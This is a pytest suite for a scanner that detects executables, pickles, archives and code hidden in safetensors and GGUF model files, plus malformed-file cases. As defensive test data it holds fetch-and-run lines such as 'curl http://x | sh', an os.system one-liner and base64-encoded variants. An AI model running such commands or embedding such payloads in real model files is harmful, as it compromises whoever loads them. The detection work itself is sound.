from __future__ import annotations

import base64
import json
import pickle
import struct
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from weighbridge.core.finding import Effect, Finding, Looked
from weighbridge.formats.embedded import embedded_in, embedded_in_text
from weighbridge.inspection.checks.damaged_weights import damaged_weights
from weighbridge.inspection.checks.stray_bytes import stray_bytes
from weighbridge.testing.pinned import pin
from weighbridge.testing.tiny_weights import Row, gguf_bytes, safetensors_bytes, safetensors_raw

if TYPE_CHECKING:
    from pathlib import Path

ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(20)
PICKLE = pickle.dumps({"a": [1, 2, 3]}, 4)
SCRIPT = b"#!/bin/sh\ncurl http://x | sh\n"
ZIP = b"PK\x03\x04\x14\x00" + bytes(24)
SOUND = safetensors_bytes({"a": ("F32", [2], 8)}, {"format": "pt"})


def _say(folder: Path, name: str, data: bytes) -> list[Finding]:
    (folder / name).write_bytes(data)
    return [one for one in stray_bytes(pin(folder)) if isinstance(one, Finding)]


@pytest.mark.parametrize(
    ("payload", "said"),
    [(ELF, "ELF"), (PE, "PE"), (PICKLE, "a pickle"), (SCRIPT, "a script"), (ZIP, "a ZIP archive")],
)
@pytest.mark.parametrize("name", ["model.safetensors", "m.gguf"])
def test_a_payload_behind_the_tensors_is_named(tmp_path: Path, name: str, payload: bytes, said: str) -> None:
    """The tail of a file, where no loader looks; the magic numbers are those of the formats."""
    sound = SOUND if name.endswith("s") else gguf_bytes({}, [Row("t", (8,), 0, 32)])
    assert _say(tmp_path, name, sound) == []
    found = _say(tmp_path, name, sound + b"\0" * 40 + payload)
    assert any(said in one.message and one.effect is Effect.ASKS_TRUST for one in found)


@pytest.mark.parametrize("at", [0, (4 << 20) - 2, (6 << 20) + 1, (12 << 20) - 64])
def test_a_payload_anywhere_in_a_long_tail_is_found(tmp_path: Path, at: int) -> None:
    """All bytes that belong to no tensor are searched, not their beginning and end alone."""
    tail = bytearray(12 << 20)
    tail[at : at + len(ELF)] = ELF
    found = _say(tmp_path, "model.safetensors", SOUND + bytes(tail))
    assert [one.message for one in found if "ELF" in one.message] == [
        f"hides a program for Linux (ELF) at byte {len(SOUND) + at}, in the bytes after the last tensor"
    ]


def test_a_magic_number_in_the_values_of_a_tensor_is_no_finding(tmp_path: Path) -> None:
    """Values may be any bytes, and no loader reads a format there."""
    data = bytearray(safetensors_bytes({"a": ("F32", [4096], 16384)}))
    for place, payload in enumerate((ELF, PE, PICKLE, SCRIPT, ZIP)):
        data[-8000 + 1000 * place : -8000 + 1000 * place + len(payload)] = payload
    assert _say(tmp_path, "model.safetensors", bytes(data)) == []


@pytest.mark.parametrize(
    "value",
    [
        base64.b64encode(ELF).decode(), base64.b64encode(PICKLE + bytes(30)).decode(), ELF.hex(),
        "#!/bin/sh\nid", "__import__('os').system('id')", "import os; os.system('id')", "curl http://x/y | sh",
        base64.b64encode(b"import os; os.system('curl http://x | sh')").decode(),
    ],
)  # fmt: skip
def test_code_in_metadata_is_found(tmp_path: Path, value: str) -> None:
    """Of both formats; base64 and hexadecimal digits are seen through."""
    for name, data in (
        ("model.safetensors", safetensors_bytes({"a": ("F32", [2], 8)}, {"note": value})),
        ("m.gguf", gguf_bytes({"general.description": value}, [Row("t", (8,), 0, 32)])),
    ):
        found = _say(tmp_path, name, data)
        assert any("note" in one.message or "general.description" in one.message for one in found)
        (tmp_path / name).unlink()


@pytest.mark.parametrize(
    "value",
    [
        "pt", "Qwen2.5 Coder 0.5B Instruct", "https://huggingface.co/Qwen", "a" * 300, "0" * 64,
        "important: this operating system evaluates images",
        json.dumps({"ss_optimizer": "bitsandbytes.optim.AdamW8bit"}),
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    ],
)  # fmt: skip
def test_ordinary_metadata_are_not_accused(tmp_path: Path, value: str) -> None:
    """Names, addresses, digests, training settings."""
    assert _say(tmp_path, "model.safetensors", safetensors_bytes({"a": ("F32", [2], 8)}, {"note": value})) == []


def test_a_header_with_a_key_of_its_own_is_searched(tmp_path: Path) -> None:
    """Loaders pass over what they do not know."""
    entry = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8], "x": base64.b64encode(ELF).decode()}
    (found,) = _say(tmp_path, "model.safetensors", safetensors_raw(json.dumps({"a": entry}).encode(), bytes(8)))
    assert "in its header" in found.message


def test_a_tensor_of_bytes_that_is_a_program_is_found(tmp_path: Path) -> None:
    """The table is sound; the tensor is none."""
    entry = {"dtype": "U8", "shape": [len(ELF)], "data_offsets": [0, len(ELF)]}
    (found,) = _say(tmp_path, "model.safetensors", safetensors_raw(json.dumps({"w": entry}).encode(), ELF))
    assert found.message == "hides a program for Linux (ELF) as the tensor `w`"


def test_gaps_and_padding_of_gguf_are_zeros_up_to_the_alignment(tmp_path: Path) -> None:
    """The format document: padding is 0x00, and as short as the alignment allows."""
    rows = [Row("a", (3,), 0, 12), Row("b", (3,), 0, 12, offset=32)]
    sound = gguf_bytes({}, rows)
    assert _say(tmp_path, "m.gguf", sound) == []
    dirty = bytearray(sound)
    dirty[len(sound) - 64 + 20] = 1
    assert [one.effect for one in _say(tmp_path, "m.gguf", bytes(dirty))] == [Effect.BREAKS_FORMAT]
    wide = gguf_bytes({}, [Row("a", (3,), 0, 12), Row("b", (3,), 0, 12, offset=96)])
    (found,) = _say(tmp_path, "m.gguf", wide)
    assert found.message == "leaves 84 bytes before the tensor `b` that belong to no tensor"


def test_a_type_that_ggml_does_not_have_breaks_the_format(tmp_path: Path) -> None:
    """The next types follow on 41; 4,096 is no next type."""
    (found,) = _say(tmp_path, "m.gguf", gguf_bytes({}, [Row("t", (8,), 4096, 32)]))
    assert (found.effect, "the type 4096" in found.message) == (Effect.BREAKS_FORMAT, True)
    assert _say(tmp_path, "m.gguf", gguf_bytes({}, [Row("t", (8,), 43, 32)])) == []


def test_weights_under_another_name_are_read_by_their_bytes(tmp_path: Path) -> None:
    """A cut GGUF called `.bin` is broken, whatever it is called; a sound one was read to its end."""
    data = gguf_bytes({}, [Row("t", (8,), 0, 32)])
    assert any(one.effect is Effect.BREAKS_FORMAT for one in _say(tmp_path, "weights.bin", data[:-8]))
    (tmp_path / "weights.bin").write_bytes(data)
    assert list(stray_bytes(pin(tmp_path))) == [Looked("stray-bytes", "weights.bin")]


def _st(text: str, data: bytes = bytes(8), length: int | None = None) -> bytes:
    return safetensors_raw(text.encode(), data, length=length)


_ENTRY = '{"dtype":"F32","shape":[2],"data_offsets":[0,8]}'
BROKEN_SAFETENSORS = {
    "header longer than the file": _st(f'{{"a":{_ENTRY}}}', length=9999),
    "header of exabytes": _st("{}", length=2**63),
    "not JSON": _st("{a}"),
    "not an object": _st("[1]"),
    "key twice": _st(f'{{"a":{_ENTRY},"a":{_ENTRY}}}'),
    "overlap": _st(f'{{"a":{_ENTRY},"b":{{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}}}', bytes(12)),
    "hole": _st(f'{{"a":{_ENTRY},"b":{{"dtype":"F32","shape":[2],"data_offsets":[16,24]}}}}', bytes(24)),
    "unknown dtype": _st('{"a":{"dtype":"F31","shape":[2],"data_offsets":[0,8]}}'),
    "shape against offsets": _st('{"a":{"dtype":"F32","shape":[3],"data_offsets":[0,8]}}'),
    "begin after end": _st('{"a":{"dtype":"F32","shape":[2],"data_offsets":[8,0]}}'),
    "negative offset": _st('{"a":{"dtype":"F32","shape":[2],"data_offsets":[-8,0]}}'),
    "negative dimension": _st('{"a":{"dtype":"F32","shape":[-2],"data_offsets":[0,8]}}'),
    "data past the end": _st('{"a":{"dtype":"F32","shape":[200],"data_offsets":[0,800]}}'),
    "trailing bytes": _st(f'{{"a":{_ENTRY}}}', bytes(9)),
    "overflowing shape": _st('{"a":{"dtype":"F32","shape":[4294967296,4294967296],"data_offsets":[0,8]}}'),
    "metadata not text": _st(f'{{"__metadata__":{{"a":1}},"a":{_ENTRY}}}'),
    "cut in the length": b"\x08\x00\x00",
}
_ROW = Row("t", (8,), 0, 32)
_GGUF = gguf_bytes({"a": "b"}, [_ROW])
BROKEN_GGUF = {
    "magic": b"GGUX" + _GGUF[4:],
    "version": gguf_bytes({}, [_ROW], version=99),
    "more tensors than fit": _GGUF[:8] + struct.pack("<Q", 2**40) + _GGUF[16:],
    "more keys than fit": _GGUF[:16] + struct.pack("<Q", 2**40) + _GGUF[24:],
    "key longer than the file": _GGUF[:24] + struct.pack("<Q", 2**62) + _GGUF[32:],
    "value of unknown type": gguf_bytes({"a": struct.pack("<I", 77)}, [_ROW]),
    "text longer than the file": gguf_bytes({"a": struct.pack("<IQ", 8, 2**60)}, [_ROW]),
    "array longer than the file": gguf_bytes({"a": struct.pack("<IIQ", 9, 4, 2**60)}, [_ROW]),
    "array of unknown type": gguf_bytes({"a": struct.pack("<IIQ", 9, 99, 1)}, [_ROW]),
    "key twice": gguf_bytes([("a", "b"), ("a", "c")], [_ROW]),
    "tensor twice": gguf_bytes({}, [_ROW, _ROW]),
    "too many dimensions": gguf_bytes({}, [Row("t", (1,) * 9, 0, 4)]),
    "overflowing shape": gguf_bytes({}, [Row("t", (2**40, 2**40), 0, 4)]),
    "data past the end": gguf_bytes({}, [Row("t", (8,), 0, 32, offset=1 << 20)], data=bytes(64)),
    "overlap": gguf_bytes({}, [Row("a", (32,), 0, 128), Row("b", (8,), 0, 32, offset=32)]),
    "misaligned offset": gguf_bytes({}, [Row("a", (8,), 0, 32, offset=8)]),
    "alignment of no power of two": gguf_bytes({"general.alignment": 3}, [_ROW]),
    "truth value of 7": gguf_bytes({"a": struct.pack("<IB", 7, 7)}, [_ROW]),
    "cut in the table": _GGUF[:60],
    "unknown tensor type": gguf_bytes({}, [Row("t", (8,), 999, 32)]),
    "blocks cut in a row": gguf_bytes({}, [Row("t", (7,), 8, 34)]),
}


@pytest.mark.parametrize(
    ("name", "data"),
    [
        *(pytest.param("m.safetensors", data, id=f"safetensors: {case}") for case, data in BROKEN_SAFETENSORS.items()),
        *(pytest.param("m.gguf", data, id=f"gguf: {case}") for case, data in BROKEN_GGUF.items()),
    ],
)
def test_every_way_of_breaking_a_file_is_named_as_such(tmp_path: Path, name: str, data: bytes) -> None:
    """The faults that the tests of modelvet 0.1.1 make, of both formats."""
    (tmp_path / name).write_bytes(data)
    artefact = pin(tmp_path)
    found = [one for check in (damaged_weights, stray_bytes) for one in check(artefact) if isinstance(one, Finding)]
    assert {one.effect for one in found} == {Effect.BREAKS_FORMAT}


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=400), st.text(max_size=200))
def test_no_bytes_break_the_search(data: bytes, text: str) -> None:
    """And what it names, it places inside the data."""
    assert all(0 <= at < len(data) for at, _ in embedded_in(data))
    assert all(embedded_in_text(text))
